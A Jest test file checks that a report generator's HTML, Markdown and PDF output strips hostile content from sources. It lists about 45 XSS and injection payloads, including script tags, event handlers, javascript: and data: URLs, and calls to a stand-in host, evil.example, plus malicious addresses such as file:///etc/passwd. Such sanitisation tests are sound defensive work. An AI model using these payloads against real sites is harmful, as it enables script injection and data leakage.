import { describe, expect, it } from '@jest/globals';
import { parseHTML } from 'linkedom';
import { marked } from 'marked';
import { buildReport } from '../src/reports/build-report.ts';
import { keepReport } from '../src/reports/keep-report.ts';
import { renderHtml } from '../src/reports/render-html.ts';
import { renderMarkdown } from '../src/reports/render-markdown.ts';
import { renderPdf } from '../src/reports/render-pdf.ts';
import type { Report } from '../src/reports/report.ts';
import { aSource, extractiveInput } from './report-fixture.ts';

/** What has run as a script somewhere, or has sent something away. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<\u0000script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u202e<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](https://evil.example/pixel.gif)',
  '![x][y]\n\n[y]: https://evil.example/pixel.gif',
  '<https://evil.example>',
  'https://evil.example/automatic',
  '`code` <b>bold</b> **bold**',
  '```html\n<script>alert(1)</script>\n```',
  '# heading\n\n- list',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
];
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'https://user:secret@evil.example/',
  'https://evil.example/"onmouseover="alert(1)',
  'https://evil.example/<script>',
];

/** A report in which every text that comes from elsewhere is that one. */
async function reportOf(text: string, url: string): Promise<Report> {
  const sentence = `${text} is what stands in the source that this report was written from, word for word.`;
  const source = aSource(1, text, `${sentence} In 2021 somebody wrote it.`, {
    url,
    documentId: null,
    provider: text,
    language: 'en',
  });
  const input = await extractiveInput('job_1', [source], text);
  const cited = { n: 1, sourceSha256: source.sha256, start: 0, end: source.text.length };
  const found = { status: 'present', method: text } as const;
  return buildReport({
    ...input,
    mode: { search: [text], synthesis: text, embeddings: text, verification: text, note: text },
    sections: [
      {
        heading: text,
        question: text,
        sentences: [{ text, citations: [cited], verdict: 'unsupported', reason: text, method: 'model' }],
        droppedCitations: 0,
        droppedLinks: 0,
      },
    ],
    analysis: {
      summary: { ...found, items: [{ text, citations: [cited] }] },
      entities: { ...found, items: [{ name: text, type: null, mentions: 1, citations: [cited] }] },
      topics: { ...found, items: [{ name: text, weight: 1, citations: [cited] }] },
      timeline: { ...found, items: [{ date: text, text, citations: [cited] }] },
      relations: { ...found, items: [{ from: text, to: text, predicate: text, citations: [cited] }] },
      sentiment: { status: 'absent', reason: text },
      relatedQuestions: { ...found, items: [{ question: text, citations: [cited] }] },
      credibility: { ...found, items: [{ n: 1, signals: [{ name: text, value: text }], agreesWith: [] }] },
    },
    searches: [{ provider: text, query: text, status: 'failed', hits: 0, reason: text }],
    warnings: [{ code: 'x', message: text, subject: text }],
    degraded: [text],
    partialReason: text,
  });
}

const ownElements = new Set(
  [
    'html',
    'head',
    'meta',
    'title',
    'style',
    'body',
    'main',
    'section',
    'h1',
    'h2',
    'h3',
    'p',
    'a',
    'cite',
    'span',
    'strong',
  ].concat(
    [
      'details',
      'summary',
      'blockquote',
      'table',
      'thead',
      'tbody',
      'tr',
      'th',
      'td',
      'br',
      'code',
      'dl',
      'dt',
      'dd',
      'ul',
      'li',
    ],
    ['figure', 'figcaption', 'svg', 'text', 'rect', 'time'],
  ),
);
const ownAttributes = new Set(
  [
    'lang',
    'charset',
    'http-equiv',
    'content',
    'name',
    'class',
    'title',
    'href',
    'id',
    'rel',
    'target',
    'datetime',
    'role',
  ].concat(['aria-label', 'viewbox', 'width', 'height', 'x', 'y']),
);

describe('a report of hostile sources (S9, CR-9)', () => {
  it('is a page of its own elements alone, whatever the sources, the topic or the model say', async () => {
    for (const [index, text] of hostile.entries()) {
      const page = renderHtml(await reportOf(text, addresses[index % addresses.length] ?? '')).toString();
      const { document } = parseHTML(page);
      const elements = [...document.querySelectorAll('*')];
      expect(elements.length).toBeGreaterThan(30);
      for (const element of elements) {
        expect([text, ownElements.has(element.localName.toLowerCase())]).toEqual([text, true]);
        for (const { name, value } of element.attributes) {
          expect([text, name, ownAttributes.has(name.toLowerCase())]).toEqual([text, name, true]);
          if (name === 'href') expect([text, /^(#source-\d+|https:\/\/[^@]*)$/.test(value)]).toEqual([text, true]);
        }
      }
      // One style and one policy, both ours: nothing that came in added another.
      expect([text, document.querySelectorAll('style, [http-equiv]').length]).toEqual([text, 2]);
    }
  });

  it('links to pages on the web and to nothing else', async () => {
    for (const url of addresses) {
      const page = renderHtml(await reportOf('A title', url)).toString();
      expect([
        url,
        /href="(?!#source-|https:\/\/evil\.example\/(?:%22onmouseover=%22alert\(1\)|%3Cscript%3E)")/.exec(page)?.[0],
      ]).toEqual([url, undefined]);
    }
  });

  it('is Markdown in which nothing from elsewhere is markup, a link or a picture', async () => {
    for (const text of hostile) {
      const markdown = renderMarkdown(await reportOf(text, 'https://example.org/a')).toString();
      const { document } = parseHTML(`<html><body>${await marked.parse(markdown, { gfm: true })}</body></html>`);
      const foreign = [...document.querySelectorAll('body *')].filter(
        ({ localName }) => !['h1', 'h2', 'h3', 'p', 'ul', 'li', 'em', 'strong', 'a'].includes(localName),
      );
      expect([text, foreign.map(({ localName }) => localName)]).toEqual([text, []]);
      const links = [...document.querySelectorAll('a')].map((link) => link.getAttribute('href'));
      expect([text, links.filter((link) => link !== 'https://example.org/a')]).toEqual([text, []]);
    }
  });

  it('is a PDF that runs nothing and links to pages on the web alone', async () => {
    for (const [index, text] of hostile.entries()) {
      const pdf = (await renderPdf(await reportOf(text, addresses[index % addresses.length] ?? ''))).toString('latin1');
      expect([text, /\/(?:JavaScript|JS|Launch|EmbeddedFile|OpenAction|SubmitForm)\b/.exec(pdf)?.[0]]).toEqual([
        text,
        undefined,
      ]);
      for (const [, uri] of pdf.matchAll(/\/URI \(([^)]*)\)/g)) expect(uri).toMatch(/^https:\/\//);
    }
  });

  it('is the same bytes for the same research, in every format', async () => {
    const report = buildReport(await extractiveInput('job_1'));
    const storage = { put: (_owner: unknown, bytes: Buffer) => Promise.resolve(bytes.toString('base64').slice(0, 8)) };
    const keep = () => keepReport(storage, { report, sources: [], tenantId: 't' }, new AbortController().signal);
    expect(await keep()).toEqual(await keep());
  });

  it('says that nothing was found where nothing was, and has no sections then', async () => {
    const report = buildReport(await extractiveInput('job_1', []));
    expect([report.sections, report.analysis, report.sources]).toEqual([[], null, []]);
    for (const page of [renderHtml(report), renderMarkdown(report)])
      expect(page.toString()).toContain('No sources found');
  });
});
